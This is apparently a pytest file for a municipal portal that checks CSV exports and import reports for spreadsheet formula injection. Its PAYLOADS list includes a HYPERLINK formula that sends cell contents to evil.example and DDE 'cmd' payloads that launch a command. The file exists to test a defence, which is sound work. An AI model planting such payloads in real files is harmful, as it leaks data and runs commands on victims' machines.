"""Every CSV the portal writes is safe to open in a spreadsheet (attack review,
finding 3): a cell that starts like a formula is written as text."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from portal import csvsafe
from portal.imports.csvfile import problems_csv
from portal.mail.outbox import queue_email
from tests import factories

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1",
            "＝1+1"]
PORTAL = Path(__file__).resolve().parent.parent / "portal"


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_inert(rows: list[list[str]], payload: str) -> None:
    found = [cell for row in rows for cell in row if payload.lstrip("\t\r") in cell]
    assert found, payload
    assert all(cell[:1] == "'" for cell in found), found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_neutralises_formulas(payload):
    assert csvsafe.safe_cell(payload) == "'" + payload
    assert csvsafe.safe_cell(csvsafe.safe_cell(payload)) == "'" + payload  # idempotent


def test_plain_values_are_left_alone():
    assert [csvsafe.safe_cell(v) for v in ("佐藤", "a=b", "", 12, -3, None, 1.5)] == [
        "佐藤", "a=b", "", 12, -3, None, 1.5]


def test_the_residents_data_export_neutralises_every_csv(resident_client, users, catalogue):
    me = factories.resident(user_id=users["resident"].id)
    for payload in PAYLOADS:
        event = factories.events(me, "library-loans", 1, note=payload)[0]
        event.kind = payload[:40]
    queue_email(to=users["resident"].email, subject=PAYLOADS[0], body="x", locale="en",
                purpose="t", user=users["resident"])
    from portal.extensions import db
    db.session.commit()
    response = resident_client.post("/my/data/export")
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    usage = cells(archive.read("usage_events.csv").decode("utf-8"))
    for payload in PAYLOADS:
        assert_inert(usage, payload)
    assert_inert(cells(archive.read("messages.csv").decode("utf-8")), PAYLOADS[0])
    # the JSON copy keeps the resident's data exactly as stored
    assert PAYLOADS[1] in archive.read("usage_events.json").decode("utf-8")
    assert "'=cmd" not in archive.read("usage_events.json").decode("utf-8")


def test_the_import_report_neutralises_formulas():
    problems = [{"row": 3, "column": payload, "reason": payload} for payload in PAYLOADS]
    rows = cells(problems_csv(problems, translate=False))
    for payload in PAYLOADS:
        assert_inert(rows, payload)


def test_every_csv_writer_in_the_portal_is_the_safe_one():
    """A new CSV export that writes with the csv module directly fails here."""
    raw = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [str(path.relative_to(PORTAL)) for path in PORTAL.rglob("*.py")
                 if path.name != "csvsafe.py" and raw.search(path.read_text("utf-8"))]
    assert offenders == []
